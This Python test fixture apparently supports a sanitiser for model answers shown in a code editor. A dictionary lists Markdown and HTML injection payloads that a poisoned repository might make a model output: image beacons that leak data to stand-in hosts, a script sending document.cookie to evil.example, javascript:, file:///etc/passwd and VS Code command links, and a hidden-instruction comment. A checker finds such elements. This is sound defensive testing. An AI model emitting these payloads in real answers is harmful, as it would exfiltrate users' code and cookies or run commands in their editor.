"""Injection payloads a poisoned repository can make a model answer with, and a checker that finds what an
editor would render from Markdown as an image, HTML or a non-http(s) link. Shared by unit and e2e tests."""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.token import Token

LEAK = "http://127.0.0.1:9/leak.png?d=ZGVmIGFkZA"

PAYLOADS = {
    "inline image": f"Adds two numbers. ![build status]({LEAK})",
    "https image": "Fine. ![b2](https://127.0.0.1:9443/x.png?d=c2VjcmV0)",
    "reference image": "Adds numbers ![a][1].\n\n[1]: https://evil.example/p.png?d=code",
    "reference image, collapsed": "![logo][]\n\n[logo]: https://evil.example/l.png",
    "reference image, shortcut": "See ![logo]\n\n[logo]: <https://evil.example/l.png> 'title'",
    "nested brackets": "[![inner [nested] alt](https://evil.example/i.png)](https://evil.example/go)",
    "image inside link text": "[see ![x](https://evil.example/i.png) here](command:workbench.action.terminal.new)",
    "html img": f'Done. <img src="{LEAK}" width=1>',
    "html block": "<div>\n<img src=https://evil.example/x.png>\n</div>",
    "html picture": "<picture><source srcset='https://evil.example/x.webp'></picture>",
    "html script": "<script>fetch('https://evil.example/?d='+document.cookie)</script>",
    "html comment": "<!-- hidden instruction --> visible",
    "entity encoded img": "&lt;img src=https://evil.example/x.png&gt; and &#60;img src=x&#62;",
    "command link": "[Run tests](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%22%7D)",
    "javascript link": "[click](javascript:alert(document.domain))",
    "javascript mixed case and spaces": "[a](JaVaScRiPt:alert(1)) [b]( javascript:alert(1) ) [c](<javascript:alert(1)>)",
    "javascript with entities": "[e](&#x6A;avascript:alert(1)) [t](java&#09;script:alert(1)) [n](javascript&colon;x)",
    "look-alike scheme": "[f](ｊavascript:alert(1)) [g](ｈttps://evil.example) [h](һttps://evil.example)",
    "data link": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[passwd](file:///etc/passwd)",
    "vscode link": "[open](vscode://vscode.git/clone?url=https://evil.example/r) [i](vscode-insiders://x)",
    "autolinks": "<javascript:alert(1)> <command:x> <file:///etc/passwd> <mailto:a@evil.example> a@evil.example",
    "unclosed fence hides an image": "Explained.\n\n```python\nx = 1\n\n![leak](https://evil.example/x.png)\n",
    "fence closed by a shorter run": "````\n```\n![leak](https://evil.example/x.png)\n````\n\n![after](https://evil.example/y.png)",
    "tilde fence": "~~~\ncode\n~~~\n![leak](https://evil.example/x.png)",
    "fence info string injection": "```python ![x](https://evil.example/x.png) <img src=x>\ncode\n```",
    "table cell image": "| a | b |\n|---|---|\n| ![x](https://evil.example/x.png) | <img src=y> |",
    "quote and list": "> ![q](https://evil.example/q.png)\n\n- ![l](https://evil.example/l.png)\n  1. <img src=z>",
    "escaped brackets rebuilt": "\\[x](command:y) and \\!\\[z\\](https://evil.example/z.png)",
    "heading with image": "## ![h](https://evil.example/h.png) Title",
    "setext and breaks": "![a](https://evil.example/a.png)\n===\n\ntext  \n![b](https://evil.example/b.png)",
}


def parse_markdown(markdown: str) -> list[Token]:
    """Tokens as the most permissive editor sees them: CommonMark with raw HTML on, GitHub tables and
    strikethrough, and every link target accepted (markdown-it itself refuses ``javascript:``; a renderer may not)."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return parser.parse(markdown)


def markdown_dangers(markdown: str) -> list[str]:
    """What an editor would render from ``markdown`` as an image, raw HTML, a non-http(s) link or a mail link."""
    found = []
    for token in parse_markdown(markdown):
        if token.type in {"html_block"}:
            found.append(f"html block {token.content!r}")
        for child in token.children or []:
            if child.type == "image":
                found.append(f"image {child.attrs.get('src')}")
            elif child.type == "html_inline":
                found.append(f"html {child.content!r}")
            elif child.type == "link_open" and not re.match(r"^https?://", str(child.attrs.get("href")), re.I):
                found.append(f"link {child.attrs.get('href')}")
    # GitHub-flavoured renderers (VS Code) also link bare e-mail addresses and bare URLs: none may be left
    # unescaped, so that the only links are the ones the sanitiser writes (autolinks, ``<https://…>``).
    text = re.sub(r"<https?://[^>\s]*>", "", _text_outside_code(markdown))
    found += [f"bare e-mail {m}" for m in re.findall(r"(?<!\\)\b[\w.+-]+@[\w-]+\.[\w.-]+", text)]
    found += [f"bare link {m}" for m in re.findall(r"\b(?:(?:https?|ftp)://|www\.)\S*", text)]
    return found


def _text_outside_code(markdown: str) -> str:
    return "\n".join(t.content for t in parse_markdown(markdown) if t.type == "inline")
